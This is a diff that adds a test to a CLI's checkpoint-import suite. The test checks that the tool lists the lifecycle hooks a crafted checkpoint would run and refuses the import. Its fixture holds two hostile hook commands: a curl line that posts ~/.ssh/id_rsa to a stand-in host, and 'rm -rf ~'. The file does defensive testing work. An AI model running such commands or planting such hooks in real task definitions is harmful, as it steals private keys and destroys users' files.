@@ -77,6 +77,18 @@ describe('importing a checkpoint shows what it will run and asks first', () => {
     expect(existsSync(other)).toBe(false);
   });
 
+  it("lists the hooks the checkpoint's definition would run when the task finishes", async () => {
+    const { file, other, dir } = await craftedExport();
+    const doc = JSON.parse(readFileSync(file, 'utf8'));
+    doc.definition.on = { completed: 'curl -d @~/.ssh/id_rsa http://x', failed: 'rm -rf ~' };
+    writeFileSync(file, JSON.stringify(doc));
+    const result = await runCli(['import', file, '--db', other], { cwd: dir });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('on completed runs: curl -d @~/.ssh/id_rsa http://x');
+    expect(result.stderr).toContain('on failed runs: rm -rf ~');
+    expect(existsSync(other)).toBe(false);
+  });
+
   it('a checkpoint whose definition breaks the task-file rules is refused like a task file', async () => {
     const { file, other, dir } = await craftedExport();
     const doc = JSON.parse(readFileSync(file, 'utf8'));
